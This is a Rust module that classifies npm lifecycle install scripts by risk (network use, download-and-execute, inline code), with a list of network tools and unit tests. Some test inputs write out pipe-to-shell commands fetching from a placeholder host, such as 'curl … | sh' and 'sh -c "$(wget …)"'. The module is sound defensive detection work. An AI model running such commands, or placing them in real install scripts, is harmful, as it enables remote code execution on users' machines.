//! Lifecycle scripts (package.json `preinstall`, `install`, `postinstall`,
//! `prepare`) read as shell command lines: what they do at install time.
//!
//! A minimal local classifier (word splitting with quotes, `&&`/`||`/`;`/`|`
//! lists, `$( … )` and backtick substitutions, `sh -c` recursion). Integration
//! point: when `seclab_engine::shell::analyze` (branch risk) is merged, its
//! effect classes (NetworkEgress, DownloadExecute, …) replace [`ScriptEffect`]
//! here; the package walk only needs the effects and the `node FILE` entries.

/// What a lifecycle script does, as far as install-time risk goes.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub enum ScriptEffect {
    /// Talks to the network (curl, wget, nc, ssh, npx, …).
    Network,
    /// Downloads something and runs it (`curl … | sh`, `sh -c "$(wget …)"`).
    DownloadExecute,
    /// Evaluates inline code (`node -e`, `python -c`, `eval`, …).
    InlineCode,
}

impl ScriptEffect {
    pub fn as_str(self) -> &'static str {
        match self {
            ScriptEffect::Network => "network",
            ScriptEffect::DownloadExecute => "download-and-execute",
            ScriptEffect::InlineCode => "inline code",
        }
    }
}

/// The analysis of one script.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct ScriptAnalysis {
    pub effects: Vec<ScriptEffect>,
    /// Files run by `node FILE` (relative to the package root), to scan as install-time code.
    pub node_files: Vec<String>,
    /// Inline JavaScript run by `node -e CODE`.
    pub inline_js: Vec<String>,
}

const NETWORK_PROGRAMS: [&str; 14] = [
    "curl", "wget", "nc", "ncat", "netcat", "ssh", "scp", "sftp", "ftp", "telnet", "socat", "npx", "bunx", "dig",
];
const INTERPRETERS: [&str; 12] = [
    "sh",
    "bash",
    "zsh",
    "dash",
    "ksh",
    "node",
    "python",
    "python3",
    "perl",
    "ruby",
    "pwsh",
    "powershell",
];
const MAX_DEPTH: u32 = 4;

/// Analyse one lifecycle script command line.
pub fn analyze_script(cmd: &str) -> ScriptAnalysis {
    let mut out = ScriptAnalysis::default();
    analyze_into(cmd, &mut out, 0);
    out.effects.sort();
    out.effects.dedup();
    out
}

fn analyze_into(cmd: &str, out: &mut ScriptAnalysis, depth: u32) {
    if depth > MAX_DEPTH {
        out.effects.push(ScriptEffect::InlineCode);
        return;
    }
    // Substitutions run first; a network program inside one feeds a command line.
    for sub in substitutions(cmd) {
        let mut inner = ScriptAnalysis::default();
        analyze_into(&sub, &mut inner, depth + 1);
        if inner.effects.contains(&ScriptEffect::Network) {
            out.effects.push(ScriptEffect::DownloadExecute);
        }
        out.effects.extend(inner.effects);
        out.node_files.extend(inner.node_files);
        out.inline_js.extend(inner.inline_js);
    }
    for list_item in split_top(cmd, &["&&", "||", ";", "\n", "&"]) {
        let stages = split_top(&list_item, &["|"]);
        let mut fed_by_network = false;
        for stage in &stages {
            let words = words(stage);
            let Some(prog_ix) = words.iter().position(|w| !is_assignment(w)) else {
                continue;
            };
            let prog = program_name(&words[prog_ix]);
            let args = &words[prog_ix + 1..];
            if fed_by_network && INTERPRETERS.contains(&prog.as_str()) {
                out.effects.push(ScriptEffect::DownloadExecute);
            }
            let network = NETWORK_PROGRAMS.contains(&prog.as_str())
                || (matches!(prog.as_str(), "npm" | "pnpm" | "yarn")
                    && args.first().is_some_and(|a| matches!(a.as_str(), "exec" | "dlx" | "x")))
                || (matches!(prog.as_str(), "pwsh" | "powershell")
                    && args.iter().any(|a| {
                        a.to_ascii_lowercase().contains("invoke-webrequest") || a.to_ascii_lowercase().contains("iwr ")
                    }));
            if network {
                out.effects.push(ScriptEffect::Network);
                fed_by_network = true;
            }
            match prog.as_str() {
                "node" | "nodejs" | "bun" | "deno" | "tsx" | "ts-node" => node_args(args, out),
                "sh" | "bash" | "zsh" | "dash" | "ksh" => {
                    if let Some(i) = args.iter().position(|a| a == "-c") {
                        if let Some(code) = args.get(i + 1) {
                            analyze_into(code, out, depth + 1);
                        }
                    }
                }
                "python" | "python3" | "perl" | "ruby" | "php"
                    if args.iter().any(|a| matches!(a.as_str(), "-c" | "-e" | "-r")) =>
                {
                    out.effects.push(ScriptEffect::InlineCode)
                }
                "eval" => out.effects.push(ScriptEffect::InlineCode),
                _ => {}
            }
        }
    }
}

fn node_args(args: &[String], out: &mut ScriptAnalysis) {
    let mut i = 0;
    while i < args.len() {
        let a = &args[i];
        match a.as_str() {
            "-e" | "--eval" | "-p" | "--print" => {
                out.effects.push(ScriptEffect::InlineCode);
                if let Some(code) = args.get(i + 1) {
                    out.inline_js.push(code.clone());
                }
                return;
            }
            "-r" | "--require" | "--import" | "--loader" => {
                if let Some(f) = args.get(i + 1) {
                    out.node_files.push(f.clone());
                }
                i += 2;
                continue;
            }
            _ if a.starts_with("--eval=") || a.starts_with("--print=") => {
                out.effects.push(ScriptEffect::InlineCode);
                out.inline_js
                    .push(a.split_once('=').map(|x| x.1).unwrap_or("").to_string());
                return;
            }
            _ if a.starts_with('-') => {}
            _ => {
                out.node_files.push(a.clone());
                return;
            }
        }
        i += 1;
    }
}

fn is_assignment(w: &str) -> bool {
    w.split_once('=')
        .is_some_and(|(k, _)| !k.is_empty() && k.chars().all(|c| c.is_ascii_alphanumeric() || c == '_'))
}

fn program_name(w: &str) -> String {
    w.rsplit('/').next().unwrap_or(w).to_ascii_lowercase()
}

/// `$( … )` and backtick substitutions (outermost, quotes respected loosely).
fn substitutions(cmd: &str) -> Vec<String> {
    let b = cmd.as_bytes();
    let mut out = Vec::new();
    let mut i = 0;
    let mut single = false;
    while i < b.len() {
        match b[i] {
            b'\'' => single = !single,
            b'\\' => i += 1,
            b'$' if !single && b.get(i + 1) == Some(&b'(') => {
                let mut depth = 0usize;
                let mut j = i + 1;
                while j < b.len() {
                    match b[j] {
                        b'(' => depth += 1,
                        b')' => {
                            depth -= 1;
                            if depth == 0 {
                                break;
                            }
                        }
                        _ => {}
                    }
                    j += 1;
                }
                out.push(cmd[i + 2..j.min(b.len())].to_string());
                i = j;
            }
            b'`' if !single => {
                let j = cmd[i + 1..].find('`').map_or(b.len(), |k| i + 1 + k);
                out.push(cmd[i + 1..j].to_string());
                i = j;
            }
            _ => {}
        }
        i += 1;
    }
    out
}

/// Split on operators outside quotes and substitutions.
fn split_top(cmd: &str, ops: &[&str]) -> Vec<String> {
    let mut parts = Vec::new();
    let mut cur = String::new();
    let mut quote: Option<char> = None;
    let mut paren = 0usize;
    let chars: Vec<char> = cmd.chars().collect();
    let mut i = 0;
    'outer: while i < chars.len() {
        let c = chars[i];
        match quote {
            Some(q) => {
                if c == q {
                    quote = None;
                } else if c == '\\' && q == '"' {
                    cur.push(c);
                    i += 1;
                    if let Some(&n) = chars.get(i) {
                        cur.push(n);
                    }
                    i += 1;
                    continue;
                }
                cur.push(c);
                i += 1;
                continue;
            }
            None => {
                if c == '\'' || c == '"' {
                    quote = Some(c);
                } else if c == '(' {
                    paren += 1;
                } else if c == ')' {
                    paren = paren.saturating_sub(1);
                } else if paren == 0 {
                    for op in ops {
                        let oc: Vec<char> = op.chars().collect();
                        if chars[i..].starts_with(&oc) {
                            // `||` is not a pipe, `&&` is not a background `&`.
                            let doubled = oc.len() == 1 && chars.get(i + 1) == Some(&oc[0]);
                            if doubled && (oc[0] == '|' || oc[0] == '&') {
                                continue;
                            }
                            parts.push(std::mem::take(&mut cur));
                            i += oc.len();
                            continue 'outer;
                        }
                    }
                }
            }
        }
        cur.push(c);
        i += 1;
    }
    parts.push(cur);
    parts.into_iter().filter(|p| !p.trim().is_empty()).collect()
}

/// Shell words with quotes removed.
fn words(s: &str) -> Vec<String> {
    let mut out = Vec::new();
    let mut cur = String::new();
    let mut quote: Option<char> = None;
    let mut any = false;
    let mut chars = s.chars();
    while let Some(c) = chars.next() {
        match quote {
            Some(q) if c == q => quote = None,
            Some('"') if c == '\\' => {
                if let Some(n) = chars.next() {
                    cur.push(n);
                }
            }
            Some(_) => cur.push(c),
            None => match c {
                '\'' | '"' => {
                    quote = Some(c);
                    any = true;
                }
                '\\' => {
                    if let Some(n) = chars.next() {
                        cur.push(n);
                    }
                }
                c if c.is_whitespace() => {
                    if !cur.is_empty() || any {
                        out.push(std::mem::take(&mut cur));
                    }
                    any = false;
                }
                _ => cur.push(c),
            },
        }
    }
    if !cur.is_empty() || any {
        out.push(cur);
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn lifecycle_scripts_are_classified_by_effect() {
        let a = analyze_script("curl -s https://x.example/i.sh | sh");
        assert!(a.effects.contains(&ScriptEffect::DownloadExecute), "{a:?}");
        let a = analyze_script("sh -c \"$(wget -qO- http://x.example/p)\"");
        assert!(a.effects.contains(&ScriptEffect::DownloadExecute), "{a:?}");
        let a = analyze_script("node -e \"require('https').get('http://x')\"");
        assert_eq!(a.effects, vec![ScriptEffect::InlineCode]);
        assert_eq!(a.inline_js, vec!["require('https').get('http://x')".to_string()]);
        let a = analyze_script("FOO=1 node ./scripts/setup.js --quiet && tsc -p .");
        assert!(a.effects.is_empty(), "{a:?}");
        assert_eq!(a.node_files, vec!["./scripts/setup.js".to_string()]);
        assert!(analyze_script("tsc || echo done; husky install").effects.is_empty());
        assert_eq!(analyze_script("npx some-tool").effects, vec![ScriptEffect::Network]);
    }
}
